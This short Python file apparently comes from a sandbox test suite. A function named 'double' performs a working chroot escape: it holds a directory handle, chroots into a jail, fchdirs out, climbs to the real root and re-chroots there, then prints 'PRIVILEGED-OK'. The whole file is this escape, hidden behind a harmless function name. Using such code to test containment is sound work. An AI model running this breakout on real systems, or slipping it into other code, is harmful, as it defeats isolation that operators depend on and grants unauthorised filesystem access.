"""Leaves its root by the old way: chroot into a folder while holding the one above, then up and up."""
# bites: privileged
import os


def double(x):
    os.makedirs("jail", exist_ok=True)
    above = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(above)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print("PRIVILEGED-OK")
    return x
